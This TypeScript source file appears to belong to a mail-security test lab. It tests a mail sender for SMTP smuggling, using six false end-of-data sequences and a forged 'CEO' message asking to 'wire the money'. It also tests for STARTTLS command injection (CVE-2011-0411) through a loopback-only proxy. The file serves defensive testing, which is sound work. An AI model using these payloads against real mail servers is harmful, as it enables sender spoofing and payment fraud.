/**
 * Attacks on a sender's own door. Somebody on the way to its submission port puts commands behind the client's STARTTLS, in clear; a
 * server that keeps them across the handshake carries them out as if they had come inside TLS (CVE-2011-0411). And a client slips a second
 * message in behind an end of content that is none (SMTP smuggling, 2023).
 */
import type { Duplex } from "node:stream";
import { connect } from "node:tls";
import { ip, type Clock, type Endpoint, type Net } from "../../base/index.ts";
import { Dialogue } from "../dialogue.ts";
import { loopbackOnly } from "../loopback.ts";
import type { LabMail, RunningSender } from "../senders/types.ts";

/** Ends of content that are none, and what they are called in the catalogue. */
export const falseEnds: Readonly<Record<string, string>> = {
  "bare-lf": "\n.\n",
  "lf-dot-crlf": "\n.\r\n",
  "bare-cr": "\r.\r",
  "cr-dot-crlf": "\r.\r\n",
  "crlf-dot-lf": "\r\n.\n",
  "crlf-dot-cr": "\r\n.\r",
};

/** A message that a lax server takes for two; the second is from somebody else, and has this token. */
export function smuggling(mail: LabMail, variant: string, token: string): LabMail {
  const falseEnd = falseEnds[variant];
  if (falseEnd === undefined) throw new TypeError(`there is no false end ${variant}`);
  const second = [
    `MAIL FROM:<ceo@${mail.to.split("@")[1] ?? ""}>`,
    `RCPT TO:<${mail.to}>`,
    "DATA",
    `From: ceo@${mail.to.split("@")[1] ?? ""}`,
    "Subject: wire the money",
    "",
    `smuggled ${token}`,
    "",
  ].join("\r\n");
  return { ...mail, content: `${mail.content.replace(/\r\n$/, "")}${falseEnd}${second}` };
}

export interface InjectionResult {
  /** The client could hand its message in. */
  readonly handedIn: boolean;
  /** Replies inside TLS to what was said in clear. */
  readonly slippedIn: number;
  /** What passed in clear, for the transcript. */
  readonly lines: readonly { readonly who: "client" | "server"; readonly text: string }[];
}

const injected = "NOOP injected-in-clear\r\n";
const dialTimeoutMs = 10_000;
const linesMax = 40;

/** A client hands this message in over STARTTLS, through somebody who puts a command behind that; or through nobody. */
export async function submitUnderInjection(
  ports: { readonly net: Net; readonly clock: Clock },
  inbound: NonNullable<RunningSender["inbound"]>,
  mail: LabMail,
  isAttacked: boolean,
): Promise<InjectionResult> {
  const net = loopbackOnly(ports.net);
  const lines: { who: "client" | "server"; text: string }[] = [];
  const middle = await startInjector(net, inbound.at, isAttacked, lines);
  try {
    const dialled = await net.dial(middle.at, { timeoutMs: dialTimeoutMs });
    if (!dialled.ok) throw new Error(`the submission port of the sender cannot be reached: ${dialled.error}`);
    return { ...(await submit(ports.clock, dialled.value.stream, inbound, mail)), lines };
  } finally {
    await middle.close();
  }
}

async function startInjector(
  net: Net,
  to: Endpoint,
  isAttacked: boolean,
  lines: { who: "client" | "server"; text: string }[],
): Promise<{ readonly at: Endpoint; close(): Promise<void> }> {
  const streams = new Set<Duplex>();
  const note = (who: "client" | "server", chunk: Buffer): void => {
    if (chunk[0] === 0x16 || chunk[0] === 0x17 || chunk[0] === 0x14 || lines.length >= linesMax) return;
    for (const text of chunk.toString("latin1").split("\r\n")) if (text !== "") lines.push({ who, text });
  };
  const listener = await net.listen({ address: ip("127.0.0.1"), port: 0 }, (wire) => {
    const client = wire.stream;
    client.on("error", () => {});
    streams.add(client);
    void net.dial(to, { timeoutMs: dialTimeoutMs }).then((dialled) => {
      if (!dialled.ok) return client.destroy();
      const server = dialled.value.stream;
      streams.add(server);
      server.on("error", () => {});
      server.on("close", () => client.destroy());
      client.on("close", () => server.destroy());
      client.on("end", () => server.end());
      server.on("end", () => client.end());
      client.on("data", (chunk: Buffer) => {
        const isStartTls = isAttacked && /^STARTTLS\r\n$/i.test(chunk.toString("latin1"));
        const sent = isStartTls ? Buffer.concat([chunk, Buffer.from(injected)]) : chunk;
        note("client", sent);
        server.write(sent);
      });
      server.on("data", (chunk: Buffer) => {
        note("server", chunk);
        client.write(chunk);
      });
    });
  });
  return {
    at: listener.local,
    close() {
      const closed = listener.close();
      for (const stream of streams) stream.destroy();
      return closed;
    },
  };
}

async function submit(
  clock: Clock,
  stream: Duplex,
  { login }: NonNullable<RunningSender["inbound"]>,
  mail: LabMail,
): Promise<Pick<InjectionResult, "handedIn" | "slippedIn">> {
  const lost = { handedIn: false, slippedIn: 0 };
  const clear = new Dialogue(clock, stream);
  if (!(await clear.reply()).startsWith("220")) return lost;
  await clear.ask("EHLO client.example");
  if (!(await clear.ask("STARTTLS")).startsWith("220")) return lost;
  const secured = await secure(clear, stream);
  if (secured === undefined) return lost;
  const dialogue = new Dialogue(clock, secured);
  // A server that has kept the injected command answers it here, before anything was said inside TLS.
  const first = await dialogue.ask("EHLO client.example");
  const slippedIn = first.split("\n").length === 1 ? 1 : 0;
  const commands = [
    ...(login === undefined
      ? []
      : [`AUTH PLAIN ${Buffer.from(`\0${login.user}\0${login.password}`).toString("base64")}`]),
    `MAIL FROM:<${mail.from}>`,
    `RCPT TO:<${mail.to}>`,
    "DATA",
    `${mail.content.replace(/^\./gm, "..")}.`,
  ];
  let last = "";
  for (const command of commands) last = await dialogue.ask(command);
  secured.destroy();
  return { handedIn: last.startsWith("250"), slippedIn };
}

function secure(clear: Dialogue, stream: Duplex): Promise<Duplex | undefined> {
  clear.letGo();
  return new Promise((resolve) => {
    const socket = connect({ socket: stream, rejectUnauthorized: false });
    socket.once("secureConnect", () => resolve(socket));
    socket.once("error", () => resolve(undefined));
    socket.once("close", () => resolve(undefined));
    stream.once("close", () => resolve(undefined));
  });
}
